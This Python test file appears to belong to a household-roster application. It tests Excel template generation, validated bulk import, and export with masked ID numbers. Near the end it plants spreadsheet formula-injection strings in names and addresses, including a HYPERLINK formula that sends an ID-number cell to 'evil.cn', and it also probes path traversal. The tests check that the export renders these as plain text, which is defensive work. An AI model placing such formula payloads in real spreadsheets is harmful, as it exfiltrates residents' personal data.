"""The household roster in Excel: template, all-or-nothing import (service, CLI, web), export with masking."""
import csv
import io
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from stdnum.cn import ric

from app.accounts.models import User
from app.core.forms import ServiceError
from app.core.models import AuditLog
from app.extensions import db
from app.grids import service as gs
from app.grids.models import Grid, GridLevel
from app.households import roster_import, roster_template
from app.core.timeutil import local_today
from app.households import search as hsearch
from app.households import service as hs
from app.households.batch import batch
from app.households.models import (POLITICAL, RELATIONS, RESIDENT_FLAGS, CategoryTag, Household, HouseholdCategory,
                                   HouseholdEvent, Resident, SearchGram)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_n = [0]


def idn(year=1980):
    """A valid, unique 18-digit ID number."""
    _n[0] += 1
    body = f"330522{year}0203{_n[0] % 1000:03d}"
    return body + ric.calc_check_digit(body + "0")


def person(grid="", address="", head="", name="", number="", relation="", phone="", political="", flags="", cats=""):
    return [grid, address, head, name, number, relation, phone, political, flags, cats]


def roster(*rows):
    """The bytes of an .xlsx roster with the template's header and these rows."""
    wb = Workbook()
    ws = wb.active
    ws.title = roster_template.SHEET
    ws.append([header for _, header, _ in roster_template.COLUMNS])
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def read(data, username):
    return roster_import.read_roster(io.BytesIO(data), db.session.scalar(select(User).where(User.username == username)))


def people(counts):
    """(created, updated, unchanged) people of apply_plan's counts."""
    return counts["created"], counts["updated"], counts["unchanged"]


def user(username):
    return db.session.scalar(select(User).where(User.username == username))


def errors_at(plan, row, column):
    return [m for r, c, m in plan.errors if r == row and c == column]


def clean_roster():
    """Two households (one with three members and categories), all valid, in 甲村's house cluster."""
    head1, head2 = idn(1960), idn(1965)
    rows = [
        person("东庄一组", "东庄村1号", head1, "王建国", head1, "户主", "13800138000", "中共党员", "流动党员、外出务工",
               "低保五保户、空巢老人户"),
        person("", "", head1, "李秀英", idn(1962), "配偶", "", "群众"),
        person("东庄一组", "东庄村1号", head1, "王小明", idn(1990), "子", "0572-6012345", "共青团员", "外出务工"),
        person("甲村/东庄自然村/东庄一组", "东庄村2号", head2, "赵大海", head2, "户主"),
        person("", "", head2, "赵小花", idn(1995), "女"),
    ]
    return rows


# Template

def test_template_has_both_sheets_and_explains_every_column(ctx, users):
    wb = load_workbook(io.BytesIO(_save(roster_template.template_workbook(user("village_admin")))))
    assert wb.sheetnames == ["户籍名册", "填写说明", "可选值"] and wb["可选值"].sheet_state == "hidden"
    # The drop-down lists read the hidden sheet (a list inside the rule may not pass 255 characters).
    rules = {str(dv.sqref): dv.formula1 for dv in wb["户籍名册"].data_validations.dataValidation}
    assert rules == {"F2:F5000": f"'可选值'!$A$1:$A${len(RELATIONS)}", "H2:H5000": f"'可选值'!$B$1:$B${len(POLITICAL)}"}
    assert [c.value for c in wb["可选值"]["A"]] == RELATIONS and "长子" in RELATIONS
    ws = wb["户籍名册"]
    assert [c.value for c in ws[1]] == ["所属网格", "门牌地址", "户主身份证号", "姓名", "身份证号", "与户主关系", "联系电话",
                                       "政治面貌", "标记", "户类别"]
    assert ws.max_row == 2 and ws["D2"].value == "张三"
    for col in ("C", "E"):  # 身份证号 columns are text, so Excel keeps all 18 digits
        assert ws.column_dimensions[col].number_format == "@"
        assert ws[f"{col}2"].number_format == "@" and ws[f"{col}2"].data_type == "s"
    help_text = "\n".join(str(c.value) for row in wb["填写说明"].iter_rows() for c in row if c.value)
    for value in RELATIONS + POLITICAL + RESIDENT_FLAGS + ["低保五保户", "烈属军属户"]:
        assert value in help_text, value
    for header in roster_template.HEADERS.values():
        assert header in help_text
    assert "文本" in help_text and "村/自然村/组" in help_text
    # The grids the village admin may fill in, and not another town's.
    assert "东庄一组" in help_text and "西庄一组" not in help_text


def test_template_download(client, users):
    client.login("worker")
    resp = client.get("/households/template.xlsx")
    assert resp.status_code == 200 and resp.mimetype == XLSX
    assert "filename*=UTF-8''" in resp.headers["Content-Disposition"]
    assert load_workbook(io.BytesIO(resp.data)).sheetnames == ["户籍名册", "填写说明", "可选值"]


def _save(wb):
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# Import: checks

def test_bad_rows_are_all_listed_and_nothing_is_imported(ctx, tree, users):
    head, dup = idn(1960), idn(1991)
    bad_checksum = head[:-1] + ("0" if head[-1] != "0" else "1")
    data = roster(
        person("东庄一组", "东庄村1号", head, "王建国", head, "户主"),                         # 2 good
        person("", "", head, "错号", bad_checksum, "子"),                                      # 3
        person("", "", head, "数字", 330522199001011234, "女"),                                 # 4 numeric cell
        person("", "", head, "关系错", idn(1992), "干爹"),                                      # 5
        person("", "", head, "电话错", idn(1993), "子", "12345"),                               # 6
        person("", "", head, "重复甲", dup, "子"),                                              # 7
        person("", "", head, "重复乙", dup, "女"),                                              # 8
        person("西庄一组", "西庄1号", (b := idn(1970)), "外镇人", b, "户主"),                    # 9 foreign grid
        person("不存在组", "某地1号", (c := idn(1971)), "无网格", c, "户主"),                    # 10 unknown grid
        person("", "", idn(1950), "无户主", idn(1994), "子"),                                   # 11 no head row
        person("甲村", "村部", (d := idn(1972)), "高层网格", d, "户主"),                          # 12 not the lowest level
        person("东庄一组", "东庄村9号", (e := idn(1973)), "类别错", e, "户主", "", "群众", "残疾、会飞", "不存在类别"),  # 13
        person("东庄一组", "东庄村1号", roster_template.EXAMPLE_ID, "张三", roster_template.EXAMPLE_ID, "户主"),    # 14 template example
    )
    plan = read(data, "village_admin")
    assert not errors_at(plan, 2, "身份证号")
    assert "校验位不对" in errors_at(plan, 3, "身份证号")[0]
    assert "被 Excel 存成了数字" in errors_at(plan, 4, "身份证号")[0]
    assert "与户主关系“干爹”不在可选值内" in errors_at(plan, 5, "与户主关系")[0]
    assert "不是有效的手机号或固定电话" in errors_at(plan, 6, "联系电话")[0]
    assert not errors_at(plan, 7, "身份证号")
    assert "与第 7 行相同" in errors_at(plan, 8, "身份证号")[0] and len(errors_at(plan, 8, "身份证号")) == 1
    assert "找不到网格“西庄一组”，或它不在您的管理范围内" in errors_at(plan, 9, "所属网格")[0]
    assert "找不到网格“不存在组”" in errors_at(plan, 10, "所属网格")[0]
    assert "没有“户主”行" in errors_at(plan, 11, "户主身份证号")[0]
    assert "下还有下级网格" in errors_at(plan, 12, "所属网格")[0]
    assert "会飞" in errors_at(plan, 13, "标记")[0]
    assert "户类别“不存在类别”不在可选值内" in errors_at(plan, 13, "户类别")[0]
    assert "示例行" in errors_at(plan, 14, "身份证号")[0]
    assert [r for r, _, _ in plan.errors] == sorted(r for r, _, _ in plan.errors)
    with pytest.raises(ServiceError, match="处错误"):
        roster_import.apply_plan(plan, user("village_admin"))
    db.session.rollback()
    assert db.session.scalar(select(func.count(Household.id))) == 0
    assert db.session.scalar(select(func.count(Resident.id))) == 0


def test_missing_header_and_unreadable_file(ctx, users):
    wb = Workbook()
    wb.active.append(["姓名", "身份证号"])
    plan = read(_save(wb), "admin")
    assert {e[:2] for e in plan.errors} == {(1, "表头")} and any("所属网格" in e[2] for e in plan.errors)
    with pytest.raises(ServiceError, match="无法作为 Excel 工作簿"):
        read(b"not a workbook", "admin")


def test_registered_people_elsewhere_are_refused(ctx, tree, users):
    """A person already on the ledger outside the importer's grids, or in another household, is not moved."""
    grid_b = db.session.get(Grid, tree["cluster_b"])
    grid_a = db.session.get(Grid, tree["cluster_a"])
    outside = hs.create_household(user("admin"), grid_b, "西庄1号", hs.ResidentData(name="乙户主", id_number=idn()))
    inside = hs.create_household(user("admin"), grid_a, "东庄5号", hs.ResidentData(name="甲户主", id_number=idn()))
    db.session.commit()
    head = idn(1961)
    plan = read(roster(
        person("东庄一组", "东庄6号", head, "新户主", head, "户主"),
        person("", "", head, "乙户主", outside.head.id_number, "配偶"),
        person("", "", head, "甲户主", inside.head.id_number, "父亲"),
    ), "village_admin")
    assert "不在您的管理范围内" in errors_at(plan, 3, "身份证号")[0]
    assert "西庄" not in errors_at(plan, 3, "身份证号")[0]  # nothing about the other town leaks
    assert "已登记在“东庄5号”户" in errors_at(plan, 4, "身份证号")[0]


def test_grid_names_and_paths(ctx, tree, users):
    """An ambiguous grid name is refused with the paths to choose from; a path picks one."""
    village_a2 = db.session.get(Grid, tree["village_a2"])
    lv = {k: gs.level_by_key(k) for k in ("natural_village", "cluster")}
    nv = gs.create_grid(village_a2, "东庄自然村", lv["natural_village"], gs.kind_by_key("general"))
    gs.create_grid(nv, "东庄一组", lv["cluster"], gs.kind_by_key("general"))
    db.session.commit()
    h1, h2, h3 = idn(), idn(), idn()
    plan = read(roster(
        person("东庄一组", "甲1号", h1, "甲", h1, "户主"),
        person("甲二村/东庄自然村/东庄一组", "甲二1号", h2, "乙", h2, "户主"),
        person("甲村 / 东庄一组", "甲2号", h3, "丙", h3, "户主"),
    ), "township")
    message = errors_at(plan, 2, "所属网格")[0]
    assert "有 2 个网格叫“东庄一组”" in message and "甲村/东庄自然村/东庄一组" in message
    assert not errors_at(plan, 3, "所属网格") and not errors_at(plan, 4, "所属网格")
    # For the village admin of 甲村 the name alone is unambiguous.
    assert not read(roster(person("东庄一组", "甲1号", h1, "甲", h1, "户主")), "village_admin").errors


# Import: writing

def test_clean_file_imports_and_reimport_updates_without_duplicates(ctx, tree, users):
    base = clean_roster()
    data = roster(*base)
    va = user("village_admin")
    plan = read(data, "village_admin")
    assert plan.errors == []
    assert (plan.rows, plan.created, plan.updated, plan.households_created) == (5, 5, 0, 2)
    assert plan.summary() == "roster: 2 households created, 5 residents created, 0 updated, 0 unchanged, 0 errors"
    assert people(roster_import.apply_plan(plan, va)) == (5, 0, 0)
    db.session.commit()

    h = db.session.scalar(select(Household).where(Household.address == "东庄村1号"))
    assert h.grid_id == tree["cluster_a"] and h.head.name == "王建国" and h.phone == "13800138000"
    assert [r.name for r in h.residents] == ["王建国", "李秀英", "王小明"]
    xm = h.residents[2]
    assert (xm.relation, xm.phone, xm.political_status, xm.flag_list) == ("子", "0572-6012345", "共青团员", ["外出务工"])
    assert h.head.flag_list == ["流动党员", "外出务工"] and h.head.sex == "男"
    assert sorted(t.category.name for t in h.tags if t.active) == ["低保五保户", "空巢老人户"]
    kinds = sorted(e.kind for e in db.session.scalars(select(HouseholdEvent).where(HouseholdEvent.household_id == h.id)))
    assert kinds == ["created", "member_added", "member_added", "tag", "tag"]
    # Search postings: by name and by address.
    assert [r.name for r in hsearch.search(va, "小明").residents] == ["王小明"]
    assert [x.address for x in hsearch.search(va, "村2").households] == ["东庄村2号"]
    assert db.session.scalar(select(func.count(SearchGram.id)).where(SearchGram.household_id == h.id)) > 0
    # Audit rows for every record, with masked ID numbers.
    created = db.session.scalars(select(AuditLog).where(AuditLog.action == "create", AuditLog.entity == "resident")).all()
    assert len(created) == 5
    assert not any(r.id_number in a.summary for a in created for r in db.session.scalars(select(Resident)))

    again = read(data, "village_admin")
    assert again.errors == []
    assert (again.created, again.updated, again.unchanged, again.households_created) == (0, 0, 5, 0)
    assert again.changes_nothing
    assert people(roster_import.apply_plan(again, va)) == (0, 0, 5)
    db.session.commit()
    assert db.session.scalar(select(func.count(Resident.id))) == 5
    assert db.session.scalar(select(func.count(Household.id))) == 2
    assert db.session.scalar(select(func.count(CategoryTag.id))) == 2

    rows = [list(r) for r in base]
    rows[1][6] = "13912345678"          # 李秀英's phone
    rows[0][1] = rows[2][1] = "东庄村1号之一"  # the household's new address
    rows.append(person("", "", rows[0][2], "王小红", idn(2001), "女"))
    plan = read(roster(*rows), "village_admin")
    assert plan.errors == [], plan.errors
    assert (plan.created, plan.updated, plan.unchanged) == (1, 2, 3)
    before = db.session.scalar(select(func.count(AuditLog.id)))
    roster_import.apply_plan(plan, va)
    db.session.commit()
    db.session.refresh(h)
    assert h.address == "东庄村1号之一" and len(h.residents) == 4
    assert db.session.scalar(select(Resident.phone).where(Resident.name == "李秀英")) == "13912345678"
    assert db.session.scalar(select(func.count(AuditLog.id))) > before
    assert db.session.scalar(select(func.count(Resident.id))) == 6


def test_import_is_all_or_nothing_when_a_service_refuses(ctx, tree, users):
    """If a row is refused while writing (the ledger changed since the check), nothing is kept."""
    plan = read(roster(*clean_roster()), "village_admin")
    grid = db.session.get(Grid, tree["cluster_a"])
    lower = GridLevel(key="lianhu", name="联户", rank=90)
    db.session.add(lower)
    gs.create_grid(grid, "一联户", lower, gs.kind_by_key("general"))  # 东庄一组 now has a child
    with pytest.raises(ServiceError, match="第 2 行所在的户.*下级网格"):
        roster_import.apply_plan(plan, user("village_admin"))
    db.session.rollback()
    assert db.session.scalar(select(func.count(Household.id))) == 0


# Import: new households in bulk, the same as one by one

ID_FIELDS = re.compile(r"\b(household_id|head_id|resident_id|category_id)=(\d+)")


def _ledger_snapshot(searcher):
    """Everything an import of new households writes, with database ids replaced by what they
    stand for (address, ID number, category name), and what searches find."""
    homes = dict(db.session.execute(select(Household.id, Household.address)).all())
    people = dict(db.session.execute(select(Resident.id, Resident.id_number)).all())
    cats = dict(db.session.execute(select(HouseholdCategory.id, HouseholdCategory.name)).all())
    names = {"household_id": homes, "head_id": people, "resident_id": people, "category_id": cats}
    entity = {"household": homes, "resident": people,
              "category_tag": {t.id: (homes[t.household_id], cats[t.category_id]) for t in db.session.scalars(select(CategoryTag))}}

    def columns(obj, skip=("id", "created_at")):
        return tuple((c.key, names.get(c.key, {}).get(getattr(obj, c.key), getattr(obj, c.key)))
                     for c in obj.__table__.columns if c.key not in skip)

    def audit_summary(text):
        return ID_FIELDS.sub(lambda m: f"{m.group(1)}={names[m.group(1)][int(m.group(2))]}", text)

    queries = ["王", "小明", "王建国", "赵大海", "东庄", "东庄村2", "wjg", "zdh", "8000", "012345"]
    return {
        "households": sorted(columns(h) for h in db.session.scalars(select(Household))),
        "residents": sorted(columns(r) for r in db.session.scalars(select(Resident))),
        "tags": sorted(columns(t) for t in db.session.scalars(select(CategoryTag))),
        "events": sorted(columns(e, ("id", "at")) for e in db.session.scalars(select(HouseholdEvent))),
        "postings": sorted((columns(g), ) for g in db.session.scalars(select(SearchGram))),
        "audit": sorted((a.action, a.entity, entity.get(a.entity, {}).get(int(a.entity_id or 0), a.entity_id),
                         audit_summary(a.summary), a.actor_id, a.actor_name, a.ip)
                        for a in db.session.scalars(select(AuditLog).where(AuditLog.action != "login"))),
        "search": {q: ([(r.name, people[r.id], homes[r.household_id], r.grid_name, r.masked_id) for r in res.residents],
                       [(h.address, h.head_name, h.grid_name) for h in res.households])
                   for q in queries for res in [hsearch.search(searcher, q)]},
    }


def _one_by_one(plan, importer):
    """The new households of a plan through the per-record service functions, as the forms do."""
    with batch(registered=plan.registered, checked=plan.checked) as writes:
        for hp in plan.households:
            head = hp.head_row
            h = hs.create_household(importer, hp.grid, hp.address, head.data, head.fields.get("phone", ""),
                                    batch=writes)
            for row in hp.rows:
                if row is not head:
                    hs.add_resident(h, row.data, batch=writes)
            for c in hp.categories:
                hs.tag(h, c, local_today(), roster_import.TAG_REASON)


def test_bulk_import_writes_what_the_service_writes_record_by_record(ctx, tree, users):
    """Rows, history events, search postings (so search finds the same) and audit rows."""
    from app.core import audit

    va = user("village_admin")
    extra = []
    for i in range(3, 8):  # more households, one of them with a category and members with flags
        head = idn(1950 + i)
        extra.append(person("东庄一组", f"东庄村{i}号", head, f"钱{'一二三四五六七'[i - 1]}", head, "户主",
                            f"1390000{i:04d}", "群众", "", "重病重残户" if i == 4 else ""))
        extra.append(person("", "", head, "孙小雨", idn(2010 + i), "孙女", "", "", "留守"))
    data = roster(*clean_roster(), *extra)
    plan = read(data, "village_admin")
    assert plan.errors == [] and plan.households_created == 7
    with audit.acting_as("village_admin", va.id):
        _one_by_one(plan, va)
        db.session.flush()
        by_service = _ledger_snapshot(va)
        db.session.rollback()
        assert db.session.scalar(select(func.count(Household.id))) == 0
        assert people(roster_import.apply_plan(read(data, "village_admin"), va)) == (15, 0, 0)
        db.session.flush()
        in_bulk = _ledger_snapshot(va)
    for key in by_service:
        assert in_bulk[key] == by_service[key], key
    # Not vacuous: every kind of row was written and the searches find people and households.
    assert all(by_service[k] for k in ("households", "residents", "tags", "events", "postings", "audit"))
    assert {a[1] for a in by_service["audit"]} >= {"household", "resident", "category_tag"}
    assert by_service["search"]["小明"][0] and by_service["search"]["东庄村2"][1] and by_service["search"]["wjg"][0]
    db.session.commit()
    # A re-import finds everybody (matched by ID number) and changes nothing.
    again = read(data, "village_admin")
    assert (again.created, again.updated, again.unchanged) == (0, 0, 15)


def test_bulk_import_next_to_updates_of_registered_households(ctx, tree, users):
    """One file that adds people to a registered household and registers new ones."""
    va = user("village_admin")
    base = clean_roster()
    roster_import.apply_plan(read(roster(*base[:3]), "village_admin"), va)  # 东庄村1号 with three people
    db.session.commit()
    head = base[0][2]
    rows = [list(r) for r in base]
    rows.append(person("", "", head, "王小红", idn(2001), "女"))
    plan = read(roster(*rows), "village_admin")
    assert plan.errors == [] and (plan.households_created, plan.households_updated) == (1, 1)
    assert people(roster_import.apply_plan(plan, va)) == (3, 0, 3)
    db.session.commit()
    h1 = db.session.scalar(select(Household).where(Household.address == "东庄村1号"))
    h2 = db.session.scalar(select(Household).where(Household.address == "东庄村2号"))
    assert [r.name for r in h1.residents] == ["王建国", "李秀英", "王小明", "王小红"]
    assert h2.head.name == "赵大海" and [r.name for r in h2.residents] == ["赵大海", "赵小花"]
    assert [e.kind for e in sorted(h2.events, key=lambda e: e.id)] == ["created", "member_added"]
    assert [r.name for r in hsearch.search(va, "小红").residents] == ["王小红"]
    assert [r.name for r in hsearch.search(va, "小花").residents] == ["赵小花"]


# CLI

def test_cli_summary_line_and_exit_codes(app, tree, users, tmp_path):
    base = clean_roster()
    good = tmp_path / "名册.xlsx"
    good.write_bytes(roster(*base))
    runner = app.test_cli_runner()

    res = runner.invoke(args=["import-households", str(good), "--dry-run", "--as", "village_admin"])
    assert res.exit_code == 0, res.output
    assert res.stdout.strip().splitlines() == [
        "dry run, roster: 2 households created, 5 residents created, 0 updated, 0 unchanged, 0 errors"]
    with app.app_context():
        assert db.session.scalar(select(func.count(Household.id))) == 0

    res = runner.invoke(args=["import-households", str(good)])  # as the first admin
    assert res.exit_code == 0, res.output
    assert res.stdout.strip().splitlines() == [
        "roster: 2 households created, 5 residents created, 0 updated, 0 unchanged, 0 errors"]
    res = runner.invoke(args=["import-households", str(good), "--as", "village_admin"])
    assert res.exit_code == 0, res.output
    assert res.stdout.strip().splitlines() == [
        "roster: 0 households created, 0 residents created, 0 updated, 5 unchanged, 0 errors"]
    with app.app_context():
        assert db.session.scalar(select(func.count(Resident.id))) == 5
        # The same file again changed nothing, so nothing was written (not even an import record).
        assert db.session.scalar(select(func.count(AuditLog.id)).where(AuditLog.action == "import")) == 1
        assert db.session.scalar(select(HouseholdEvent.actor_name).limit(1)) == "admin（命令行）"

    rows = [list(r) for r in base]
    rows[2][6] = "12345"
    rows[4][5] = "干爹"
    rows[3][6] = "19412345678"  # 11 digits starting with 1, a prefix the numbering plan does not know: a warning
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(roster(*rows))
    res = runner.invoke(args=["import-households", str(bad), "--as", "village_admin"])
    assert res.exit_code == 1
    assert res.stdout.strip().splitlines() == [
        "roster: 0 households created, 0 residents created, 2 updated, 3 unchanged, 2 errors"]
    errors = res.stderr.strip().splitlines()
    assert errors[0].startswith("第 4 行 [联系电话]：") and "11 位" in errors[0]
    assert errors[1].startswith("第 6 行 [与户主关系]：")
    assert errors[2].startswith("第 5 行 [联系电话]：提醒：") and "19412345678" in errors[2]
    assert len(errors) == 3

    res = runner.invoke(args=["import-households", str(good), "--as", "nobody"])
    assert res.exit_code != 0 and "找不到账号 nobody" in res.output
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(b"junk")
    res = runner.invoke(args=["import-households", str(junk)])
    assert res.exit_code == 1 and "无法作为 Excel 工作簿" in res.stderr
    assert res.stdout.strip().splitlines()[-1] == "roster: 0 households created, 0 residents created, 0 updated, 0 unchanged, 1 errors"


# Web

def _upload(client, data, name="名册.xlsx"):
    client.get("/households/import")  # the form, as a browser would have it (and its CSRF token)
    return client.post("/households/import", {"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")


def test_web_upload_preview_confirm(app, client, make_client, make_user, tree, users):
    client.login("village_admin")
    assert client.get("/households/import").status_code == 200
    resp = _upload(client, roster(*clean_roster()))
    assert resp.status_code == 302
    token = re.search(r"/households/import/([A-Za-z0-9_-]{43})$", resp.headers["Location"]).group(1)
    folder = Path(app.instance_path) / "imports"
    assert (folder / f"{token}.upload").is_file()
    assert (folder / f"{token}.upload").stat().st_mode & 0o777 == 0o600

    page = client.get(f"/households/import/{token}").get_data(as_text=True)
    assert "名册.xlsx" in page and "确认导入" in page and "新增人员" in page
    with app.app_context():
        assert db.session.scalar(select(func.count(Household.id))) == 0  # the preview writes nothing

    # Only the uploader may see or confirm it.
    make_user("va2", "village_admin", [tree["village_a"]])
    other = make_client()
    other.login("va2")
    assert other.get(f"/households/import/{token}").status_code == 404
    assert other.post(f"/households/import/{token}/confirm").status_code == 404
    assert client.get("/households/import/..%2F..%2Fsecret_key").status_code == 404
    assert client.get("/households/import/" + "a" * 43).status_code == 404

    resp = client.post(f"/households/import/{token}/confirm")
    assert resp.status_code == 302 and resp.headers["Location"].endswith("/households/")
    assert "已导入“名册.xlsx”：新建 2 户，新增 5 人" in client.get("/households/").get_data(as_text=True)
    assert not (folder / f"{token}.upload").exists()
    with app.app_context():
        assert db.session.scalar(select(func.count(Resident.id))) == 5
        row = db.session.scalar(select(AuditLog).where(AuditLog.action == "import"))
        assert row.actor_name == "village_admin" and "名册.xlsx" in row.summary and "新增 5 人" in row.summary
    assert client.post(f"/households/import/{token}/confirm").status_code == 404  # used up


def test_web_preview_lists_errors_and_refuses_to_confirm(app, client, users):
    client.login("village_admin")
    rows = clean_roster()
    rows[1][4] = rows[1][4][:-1] + ("0" if rows[1][4][-1] != "0" else "1")
    resp = _upload(client, roster(*rows))
    token = resp.headers["Location"].rsplit("/", 1)[1]
    page = client.get(f"/households/import/{token}").get_data(as_text=True)
    assert "第 3 行" in page and "校验位不对" in page and 'data-label="问题"' in page and "确认导入" not in page
    resp = client.post(f"/households/import/{token}/confirm")
    assert resp.status_code == 302 and resp.headers["Location"].endswith(token)
    assert "1 处错误，没有导入" in client.get(resp.headers["Location"]).get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count(Household.id))) == 0


def test_web_upload_refuses_other_files(client, users):
    client.login("village_admin")
    page = _upload(client, b"x", "名册.et").get_data(as_text=True)
    assert "只能上传 Excel（.xlsx、.xls）或 CSV 文件" in page and "名册.et" in page
    assert "无法作为旧版 Excel 工作簿（.xls）" in _upload(client, b"x", "名册.xls").get_data(as_text=True)
    page = _upload(client, b"not a zip", "名册.xlsx").get_data(as_text=True)
    assert "无法作为 Excel 工作簿" in page
    assert "请选择要上传的文件" in client.post("/households/import", {}).get_data(as_text=True)


def test_worker_may_not_import(client, users):
    client.login("worker")
    assert client.get("/households/import").status_code == 403
    assert _upload(client, roster(*clean_roster())).status_code == 403
    assert "导入名册" not in client.get("/households/").get_data(as_text=True)


# Export

@pytest.fixture
def ledger(app, tree, users):
    """The clean roster imported into 甲村 (committed); returns the people's ID numbers by name."""
    with app.app_context():
        plan = read(roster(*clean_roster()), "admin")
        roster_import.apply_plan(plan, user("admin"))
        db.session.commit()
        return dict(db.session.execute(select(Resident.name, Resident.id_number)).all())


def _export(client, **form):
    return client.post("/households/export", form)


def _sheet_rows(resp):
    ws = load_workbook(io.BytesIO(resp.data))["户籍名册"]
    return [[c.value for c in row] for row in ws.iter_rows()], ws


def test_export_masked_unless_revealing_admin_asks(app, client, make_client, ledger):
    audits = lambda: db.session.scalar(select(func.count(AuditLog.id)).where(AuditLog.action == "export"))  # noqa: E731
    leader = make_client()
    leader.login("leader")
    leader.get("/households/")
    resp = _export(leader, reveal="1")
    assert resp.status_code == 200 and resp.mimetype == XLSX
    rows, ws = _sheet_rows(resp)
    assert rows[0] == list(roster_template.HEADERS.values()) and len(rows) == 6
    numbers = [r[4] for r in rows[1:]] + [r[2] for r in rows[1:]]
    assert all("*" in n and n not in ledger.values() for n in numbers)
    assert rows[1][4] == ledger["王建国"][:6] + "********" + ledger["王建国"][-4:]
    assert ws["E2"].number_format == "@" and ws["E2"].data_type == "s"
    disposition = resp.headers["Content-Disposition"]
    assert "filename*=UTF-8''" in disposition and not re.search(r"\d{15}", disposition)
    with app.app_context():
        assert audits() == 1
        assert "要求完整显示但无权限，已脱敏" in db.session.scalar(select(AuditLog.summary).where(AuditLog.action == "export"))

    client.login("village_admin")
    client.get("/households/")
    rows, _ = _sheet_rows(_export(client))
    assert "*" in rows[1][4]
    rows, _ = _sheet_rows(_export(client, reveal="1"))
    assert {r[3]: r[4] for r in rows[1:]} == ledger
    assert rows[1][0] == "甲村/东庄自然村/东庄一组" and rows[1][9] == "低保五保户、空巢老人户"
    with app.app_context():
        assert audits() == 3
        last = db.session.scalars(select(AuditLog).where(AuditLog.action == "export").order_by(AuditLog.id.desc())).first()
        assert last.actor_name == "village_admin" and "身份证号完整显示" in last.summary and "2 户 5 人" in last.summary
        # A revealed export reads back as an update of the same people.
        plan = roster_import.read_roster(io.BytesIO(_export(client, reveal="1").data), user("village_admin"))
        assert plan.errors == [] and (plan.created, plan.updated, plan.unchanged) == (0, 0, 5)

    worker = make_client()
    worker.login("worker")
    worker.get("/households/")
    assert _export(worker).status_code == 403


def test_export_follows_the_list_filters(app, client, tree, ledger):
    client.login("village_admin")
    client.get("/households/")
    rows, _ = _sheet_rows(_export(client, q="小明"))
    assert [r[3] for r in rows[1:]] == ["王建国", "李秀英", "王小明"]  # the household of the person found
    with app.app_context():
        cat = db.session.scalar(select(CategoryTag.category_id))
    rows, _ = _sheet_rows(_export(client, category_id=str(cat)))
    assert {r[1] for r in rows[1:]} == {"东庄村1号"}
    resp = _export(client, grid_id=str(tree["cluster_a"]))
    assert "%E4%B8%9C%E5%BA%84%E4%B8%80%E7%BB%84" in resp.headers["Content-Disposition"]  # 东庄一组
    assert _export(client, grid_id=str(tree["cluster_b"])).status_code == 404
    page = client.get("/households/?status=active").get_data(as_text=True)
    assert "导出当前列表" in page and "显示完整身份证号" in page


def _soffice():
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        if os.environ.get("CI") == "true":
            pytest.fail("soffice (Debian: libreoffice-calc-nogui) is not installed, and CI=true needs it")
        pytest.skip("soffice is not installed (Debian: apt-get install libreoffice-calc-nogui)")
    return soffice


def _libreoffice_rows(soffice, src):
    """The rows of an .xlsx as LibreOffice Calc reads it (converted to CSV headless)."""
    tmp_path = src.parent
    profile = tmp_path / "lo-profile"
    # csv with its filter options spelled out: comma, double quote, UTF-8 (76); plain "csv" writes
    # the locale's encoding, which is ASCII on a bare server. A profile of its own: runs can overlap.
    subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path), str(src)],
                   check=True, capture_output=True, timeout=300)
    text = src.with_suffix(".csv").read_text(encoding="utf-8")
    return list(csv.reader(io.StringIO(text)))


def test_exported_file_converts_with_libreoffice(app, client, ledger, tmp_path):
    soffice = _soffice()
    client.login("leader")
    client.get("/households/")
    src = tmp_path / "ledger.xlsx"
    src.write_bytes(_export(client).data)
    rows = _libreoffice_rows(soffice, src)
    assert rows[0][:5] == ["所属网格", "门牌地址", "户主身份证号", "姓名", "身份证号"]
    by_name = {r[3]: r for r in rows[1:]}
    assert set(by_name) == set(ledger)
    for name, number in ledger.items():
        assert by_name[name][4] == number[:6] + "********" + number[-4:]


# Names hold 40 characters (PostgreSQL checks it).
HOSTILE_CELLS = {"王建国": '=HYPERLINK("http://evil.cn/"&E2,"详情")', "李秀英": "=1+2", "王小明": "+1-1",
                 "赵大海": "@SUM(1)", "赵小花": "-2+3"}


def _plant_formulas(app):
    """Names, an address and a category that a spreadsheet would evaluate, and a NUL byte in an address."""
    from app.households.models import HouseholdCategory

    with app.app_context():
        for person in db.session.scalars(select(Resident)):
            person.name = HOSTILE_CELLS.get(person.name, person.name)
        households = db.session.scalars(select(Household).order_by(Household.id)).all()
        households[0].address = "=2*3"
        # Stored before input was cleaned: SQLite keeps a NUL, PostgreSQL refuses it but keeps \x01 —
        # both characters an .xlsx cannot hold.
        households[1].address = "东庄村\x002号" if db.engine.dialect.name == "sqlite" else "东庄村\x012号"
        category = db.session.scalars(select(HouseholdCategory).order_by(HouseholdCategory.id)).first()
        category.name = "=3+4"
        db.session.commit()
        return {hh.id: hh.address for hh in households}


def _hostile_export(client, tmp_path):
    client.login("village_admin")
    client.get("/households/")
    resp = _export(client)
    assert resp.status_code == 200 and resp.mimetype == XLSX
    path = tmp_path / "ledger.xlsx"
    path.write_bytes(resp.data)
    return path


def test_exported_text_is_never_a_formula(app, client, ledger, tmp_path):
    _plant_formulas(app)
    path = _hostile_export(client, tmp_path)
    ws = load_workbook(path)["户籍名册"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert set(HOSTILE_CELLS.values()) <= values and {"=2*3", "东庄村2号"} <= values
    assert any("=3+4" in v for v in values)
    # The cell keeps its text when someone edits it in Excel (the quote prefix).
    assert all(c.quotePrefix for c in cells if c.value in HOSTILE_CELLS.values())


def test_exported_formula_text_shows_literally_in_libreoffice(app, client, ledger, tmp_path):
    soffice = _soffice()
    _plant_formulas(app)
    rows = _libreoffice_rows(soffice, _hostile_export(client, tmp_path))
    texts = {cell for row in rows for cell in row}
